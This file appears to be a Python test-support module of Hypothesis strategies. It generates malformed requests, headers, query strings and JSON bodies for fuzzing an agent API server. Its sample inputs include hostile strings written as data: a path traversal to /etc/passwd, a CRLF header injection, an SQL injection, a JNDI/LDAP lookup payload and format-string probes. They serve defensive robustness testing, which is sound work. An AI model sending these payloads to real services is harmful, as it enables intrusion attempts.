"""Whole requests that no client sends, for any route: hostile JSON, cursors, offsets, ids and headers, as hypothesis
strategies. No tests."""

import json
import re
from collections.abc import Mapping
from typing import Any
from urllib.parse import quote

from hypothesis import strategies as st

from tests.support.random.fuzzed_inputs import inputs, odd

MARK = "zqxjk"
"""In every text that is sent: no error response may quote it."""


def _nested(depth: int) -> str:
    return "[" * depth + "]" * depth


_texts = st.sampled_from(
    [
        "",
        " ",
        "\0",
        "\r\nSet-Cookie: a=b",
        "..",
        "../../../../etc/passwd",
        "a/b//c",
        "//elsewhere",
        "\\\\elsewhere",
        "%2e%2e",
        "%00",
        "%ff",
        "\u202e\u2028",
        "\U0001f600" * 40,
        "x" * 600,
        "__proto__",
        "null",
        "-1",
        "NaN",
        "1e400",
        "1" * 5_000,
        "'; DROP TABLE checkpoints; --",
        "${jndi:ldap://elsewhere}",
        "{0.__class__}%s%n",
        "1_2026-01-01T00:00:00_x",
        "99999999999999999999_2026-01-01T00:00:00+00:00_x",
        "1f0c9f3a-0000-6000-8000-000000000000",
        "{1f0c9f3a-0000-6000-8000-000000000000}",
        "0001-01-01T00:00:00+23:59",
    ]
).map(lambda text: text + MARK) | st.text(max_size=12)
ids = st.sampled_from(["t", "t", "u", "asked", "a/b"]) | _texts
agents = st.sampled_from(["asks", "bare"]) | _texts
_values = (
    ids | agents | st.sampled_from(["runs", "1", "100", "0", "-1", "true", "idle", "running", "0-0", "r-0", "r-1"])
)
_names = ["agent", "agentId", "cursor", "limit", "status", "events", "includeArchived", "thread", MARK]
queries = st.lists(st.tuples(st.sampled_from(_names), _values), max_size=3)
_headers = [
    "Last-Event-ID",
    "Accept",
    "Content-Type",
    "Content-Encoding",
    "Authorization",
    "Cookie",
    "Origin",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "Forwarded",
    "X-HTTP-Method-Override",
    "If-None-Match",
    "Range",
    "Prefer",
]
_lines = _values.map(lambda text: re.sub(r"[\x00-\x1f\x7f]", " ", text).encode("utf-8", "replace").decode("latin-1"))
headers = st.lists(st.tuples(st.sampled_from(_headers), _lines), max_size=3)
_deep = st.sampled_from([10, 29, 31, 200, 300, 1_000, 2_000, 20_000]).map(_nested)
_pieces = st.one_of(
    odd.map(json.dumps),
    _deep,
    st.sampled_from(
        [
            '"\\ud800"',
            "1e999",
            "-0",
            "1" * 400,
            "9007199254740993",
            '{"__proto__": {"a": 1}}',
            '{"a": 1, "a": 2}',
            "[" + "{}," * 5_000 + "{}]",
            "[" + "[]," * 20_000 + "[]]",
            '"' + "\\u0000" * 50 + '"',
            '"' + "x" * 100_000 + '"',
        ]
    ),
)
_fields = st.sampled_from(
    ["threadId", "runId", "messages", "state", "tools", "context", "forwardedProps", "resume", "protocolVersion", "x"]
)
_in_messages = st.sampled_from(["id", "role", "content", "toolCalls", "toolCallId", "metadata", "name"])


def _with(given: Mapping[str, Any], thread: str, run: str, field: str, piece: str, place: str) -> bytes:
    """An input of which one field, or one of its first message, is any JSON."""
    whole: dict[str, Any] = {"threadId": thread, "runId": run, **given}
    hole = "hole-" + MARK
    if place in whole and field == "messages" and whole["messages"] and isinstance(whole["messages"][0], dict):
        whole["messages"] = [{**whole["messages"][0], place: hole}, *whole["messages"][1:]]
    elif field == "arguments":
        function = {"name": "f", "arguments": hole}
        calls = [{"id": "c", "type": "function", "function": function}]
        whole["messages"] = [{"id": "a", "role": "assistant", "toolCalls": calls}]
        piece = json.dumps(piece)
    elif field == "resume text":
        whole["forwardedProps"] = {"command": {"resume": hole}}
        piece = json.dumps(piece)
    else:
        whole[field] = hole
    return json.dumps(whole).replace(f'"{hole}"', piece).encode()


broken = st.builds(
    _with, inputs, ids, ids, _fields | st.sampled_from(["arguments", "resume text"]), _pieces, _in_messages | _fields
)
"""Inputs with one field of any JSON."""
_sound = st.builds(lambda given, thread, run: json.dumps({**given, "threadId": thread, "runId": run}), inputs, ids, ids)
_requests = st.fixed_dictionaries(
    {},
    optional={
        "name": odd | _texts,
        "archived": odd,
        "agent": agents | odd,
        "agentId": agents | odd,
        "threadId": ids | odd,
        "runId": ids | odd,
        "method": st.sampled_from(["info", "agent/run", "agent/connect", "agent/stop"]) | odd,
        "params": odd | st.fixed_dictionaries({"agentId": agents, "threadId": ids}),
        "body": odd | inputs,
    },
).map(json.dumps)
bodies = st.one_of(
    broken,
    _sound.map(str.encode),
    _requests.map(str.encode),
    _pieces.map(str.encode),
    st.binary(max_size=30),
    st.sampled_from([b"", b"\xff\xfe", b"\xef\xbb\xbf{}", b"{", b"[" * 5_000, b"{}" + b" " * 300_000, b"null"]),
)


def path_of(pattern: str, fills: Mapping[str, str], query: list[tuple[str, str]]) -> str:
    """The path of a route, with these texts for its parameters."""

    def filled(found: re.Match[str]) -> str:
        return quote(fills[found[1]].encode("utf-8", "replace"), safe="")

    path = re.sub(r"\{(\w+)(?::\w+)?\}", filled, pattern)
    quoted = ((quote(name), quote(value.encode("utf-8", "replace"), safe="")) for name, value in query)
    written = "&".join(f"{name}={value}" for name, value in quoted)
    return f"{path}?{written}" if written else path
